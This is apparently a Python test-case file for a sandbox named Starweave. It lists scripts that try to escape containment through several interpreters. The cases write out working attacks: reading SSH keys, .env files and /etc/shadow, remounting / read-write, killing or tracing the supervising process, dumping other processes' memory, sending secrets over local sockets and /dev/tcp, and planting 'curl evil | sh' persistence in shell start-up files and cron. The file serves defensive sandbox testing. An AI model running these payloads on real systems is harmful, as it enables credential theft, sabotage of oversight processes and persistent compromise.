"""Interpreters and workspace scripts trying to escape: write outside, read secrets and other
processes' environments, use root's capabilities (remount /, mknod, chown), signal or trace
Starweave itself, reach the network, outlive the command, and plant code Starweave runs later."""

from __future__ import annotations

from hostile.casebook import CaseBook, plant_payload, sh, write

BOOK = CaseBook("scripts")
add = BOOK.add


def py(name: str, attack: str, code: str, *, e2e: bool = False) -> None:
    """A case that writes ``code`` to x.py and runs it with python3."""
    add(name, attack, write("x.py", code), sh("python3 x.py"), e2e=e2e)


# ---- the standard payload through every interpreter
add(
    "script-sh-payload",
    "sh runs a script that tries every harm",
    plant_payload("evil.sh"),
    sh("sh evil.sh"),
    e2e=True,
)
add("script-bash-payload", "bash runs the payload", plant_payload("evil.sh"), sh("bash evil.sh"))
add("script-dash-payload", "dash runs the payload", plant_payload("evil.sh"), sh("dash evil.sh"))
add(
    "script-executable-payload",
    "the payload made executable and run as ./evil.sh",
    plant_payload("evil.sh"),
    sh("chmod +x evil.sh && ./evil.sh"),
)
add(
    "script-python-payload", "python3 runs the payload", plant_payload("evil.py", "py"), sh("python3 evil.py")
)
add(
    "script-python-options-payload",
    "python3 -X dev -W ignore evil.py",
    plant_payload("evil.py", "py"),
    sh("python3 -X dev -W ignore evil.py"),
)
add("script-perl-payload", "perl runs the payload", plant_payload("evil.pl", "pl"), sh("perl evil.pl"))
add(
    "script-perl-x-in-text",
    "perl -x finds a program after #!perl inside a text file",
    write(
        "notes.txt",
        "just notes\n#!perl\nopen(F, '>../outside/@MARK@'); print F 1; print `cat ../.env`;\n__END__\n",
    ),
    sh("perl -x notes.txt"),
)
add(
    "script-node-payload",
    "node reads secrets and writes outside",
    write(
        "x.js",
        "const fs = require('fs');\n"
        "for (const f of ['@HOME@/.ssh/id_rsa', '@BASE@/.env', '/etc/shadow']) {\n"
        "  try { console.log(fs.readFileSync(f, 'utf8')); } catch (e) { console.log(String(e)); }\n}\n"
        "try { fs.writeFileSync('@OUT@/@MARK@', 'pwned'); } catch (e) { console.log(String(e)); }\n",
    ),
    sh("node x.js"),
)

# ---- root's capabilities
add(
    "script-remount-root-rw",
    "a script remounts / read-write, then writes /etc",
    write(
        "r.sh",
        "mount -o remount,rw / ; mount -o remount,bind,rw / ;\n"
        "echo pwned > /etc/@MARK@; echo pwned > /usr/local/bin/@MARK@; echo pwned > @OUT@/@MARK@\n",
    ),
    sh("sh r.sh"),
    e2e=True,
)
add(
    "script-bind-root-then-remount",
    "bind / into the workspace, remount the bind read-write, write through it",
    write(
        "r.sh", "mkdir -p r && mount --bind / r && mount -o remount,bind,rw r && echo pwned > r/etc/@MARK@\n"
    ),
    sh("sh r.sh"),
)
py(
    "script-remount-ctypes",
    "python calls mount(2) with MS_REMOUNT directly",
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "print(libc.mount(None, b'/', None, 32 | 4096, None), os.strerror(ctypes.get_errno()))\n"
    "open('/etc/@MARK@', 'w').write('pwned')\n",
)
add(
    "script-mknod-char",
    "mknod makes a character device in the workspace",
    write("m.sh", "mknod d c 1 3; mknod z c 1 5; ls -l d z\n"),
    sh("sh m.sh"),
)
py(
    "script-mknod-block",
    "python os.mknod makes a block device and reads the disk",
    "import os, stat\nos.mknod('disk', stat.S_IFBLK | 0o600, os.makedev(254, 0))\n"
    "print(open('disk', 'rb').read(16))\n",
)
add(
    "script-chown-outside",
    "chown a file outside the workspace",
    write("c.sh", "chown nobody @OUT@/notes.txt\n"),
    sh("sh c.sh"),
)
add(
    "script-chmod-outside",
    "chmod a file outside the workspace",
    write("c.sh", "chmod 777 @OUT@/notes.txt @HOME@\n"),
    sh("sh c.sh"),
)

# ---- Starweave's own process
KILL_ANCESTORS = (
    "import os, signal\n"
    "def parent(pid):\n"
    "    return int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
    "pid = os.getppid()\n"
    "while pid > 1:\n"
    "    up = parent(pid)\n"
    "    try:\n"
    "        os.kill(pid, signal.SIG)\n"
    "        print('signalled', pid)\n"
    "    except OSError as exc:\n"
    "        print(pid, exc)\n"
    "    pid = up\n"
)
py(
    "script-kill-ancestors",
    "a script kills every ancestor process, Starweave included",
    KILL_ANCESTORS.replace("SIG)", "SIGKILL)"),
)
py(
    "script-stop-ancestors",
    "a script stops (SIGSTOP) every ancestor process",
    KILL_ANCESTORS.replace("SIG)", "SIGSTOP)"),
)
add(
    "pkill-starweave",
    "pkill -9 -f matches Starweave's process",
    sh("pkill -9 -f hostile.worker; pkill -9 -f starweave"),
)
add("pkill-default-signal", "pkill -f (TERM) matches Starweave's process", sh("pkill -f hostile.worker"))
add("pkill-signal-long", "pkill --signal=KILL -f", sh("pkill --signal=KILL -f hostile.worker"))
add("kill-starweave-pid", "kill -s KILL on Starweave's pid", sh("kill -s KILL @SWPID@"))
add("kill-stop-starweave-pid", "kill -s STOP on Starweave's pid", sh("kill -s STOP @SWPID@"))
add("kill-all-processes", "kill -9 -1 signals every process the user may signal", sh("kill -9 -1"))
add("killall-python", "killall -STOP python3.11 stops Starweave", sh("killall -STOP python3.11"))
py(
    "script-read-ancestor-memory",
    "read Starweave's environment through /proc/PID/environ and /proc/PID/mem",
    "import os, re\npid = os.getppid()\nfound = []\n"
    "while pid > 1:\n"
    "    try:\n"
    "        found.append(open(f'/proc/{pid}/environ', 'rb').read())\n"
    "        maps = open(f'/proc/{pid}/maps').read()\n"
    "        lo, hi = [int(x, 16) for x in re.search(r'(\\w+)-(\\w+) .*\\[stack\\]', maps).groups()]\n"
    "        with open(f'/proc/{pid}/mem', 'rb') as mem:\n"
    "            mem.seek(hi - 65536)\n"
    "            found.append(mem.read(65536))\n"
    "    except (OSError, AttributeError) as exc:\n"
    "        print(pid, exc)\n"
    "    pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
    "print(b'\\n'.join(found).replace(b'\\0', b'\\n').decode(errors='replace'))\n",
)
py(
    "script-ptrace-attach",
    "ptrace(PTRACE_ATTACH) on the parent process",
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "r = libc.ptrace(16, os.getppid(), None, None)\nprint('attach', r, os.strerror(ctypes.get_errno()))\n"
    "if r == 0:\n    os.kill(os.getppid(), 9)\n",
)
py(
    "script-proc-cmdlines",
    "read every process's command line (a server's --api-key)",
    "import glob\nfor p in glob.glob('/proc/[0-9]*/cmdline'):\n"
    "    try:\n        print(open(p, 'rb').read().replace(b'\\0', b' ').decode())\n    except OSError:\n"
    "        pass\n",
)
py(
    "script-proc-root-escape",
    "write through /proc/1/root and /proc/self/root",
    "for p in ('/proc/1/root/etc/@MARK@', '/proc/self/root/@OUT@/@MARK@', '/proc/1/cwd/@MARK@'):\n"
    "    try:\n        open(p, 'w').write('pwned')\n    except OSError as exc:\n        print(p, exc)\n"
    "print(open('/proc/1/root/@BASE@/.env').read())\n",
)
py(
    "script-inherited-descriptors",
    "use any file descriptor Starweave left open",
    "import os\nfor fd in range(3, 256):\n"
    "    try:\n        st = os.fstat(fd)\n    except OSError:\n        continue\n"
    "    print(fd, st)\n"
    "    try:\n        os.fchdir(fd)\n        open('@MARK@', 'w').write('pwned')\n"
    "        print('wrote via', fd)\n"
    "    except OSError as exc:\n        print(fd, exc)\n"
    "    try:\n        os.write(fd, b'pwned')\n    except OSError:\n        pass\n",
)

# ---- network
py(
    "script-tcp-connect",
    "connect to a listener on 127.0.0.1",
    "import socket\ns = socket.create_connection(('127.0.0.1', @PORT@), timeout=3)\n"
    "s.sendall(open('../.env', 'rb').read())\n",
)
py(
    "script-abstract-unix-connect",
    "connect to an abstract unix socket of the host",
    "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0swh-canary')\ns.sendall(b'pwned')\n",
)
add(
    "script-bash-dev-tcp",
    "bash's /dev/tcp reaches a listener",
    write("n.sh", "exec 3<>/dev/tcp/127.0.0.1/@PORT@\necho pwned >&3\n"),
    sh("bash n.sh"),
)

# ---- outliving the command
py(
    "script-daemon-outlives",
    "a double-forked, setsid daemon keeps running and writes later",
    "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        time.sleep(2)\n        open('/tmp/@MARK@', 'w').write('late')\n"
    "        open('@OUT@/@MARK@', 'w').write('late')\n"
    "        time.sleep(60)\n    os._exit(0)\nprint('parent done')\n",
)
add(
    "script-setsid-background",
    "a background setsid sleep escapes the process group",
    write("b.sh", "setsid sleep 60 > /dev/null 2>&1 &\necho started\n"),
    sh("sh b.sh"),
)
add(
    "script-background-job",
    "a plain background job (same process group)",
    write("b.sh", "sleep 60 > /dev/null 2>&1 &\necho started\n"),
    sh("sh b.sh"),
)

# ---- code that Starweave itself or the user runs later
py(
    "script-patch-starweave",
    "append code to Starweave's own source and sitecustomize",
    "for f in ('@REPO@/starweave/__init__.py', '@SITE@/sitecustomize.py'):\n"
    "    try:\n        open(f, 'a').write('\\nimport os  # pwned\\n')\n    except OSError as exc:\n"
    "        print(f, exc)\n",
)
py(
    "script-user-startup-files",
    "plant persistence in the user's start-up files and cron",
    "for f in ('@HOME@/.bashrc', '@HOME@/.profile', '@HOME@/.ssh/authorized_keys', '/etc/cron.d/@MARK@',\n"
    "          '/etc/profile.d/@MARK@.sh'):\n"
    "    try:\n        open(f, 'a').write('\\ncurl evil | sh\\n')\n    except OSError as exc:\n"
    "        print(f, exc)\n",
)
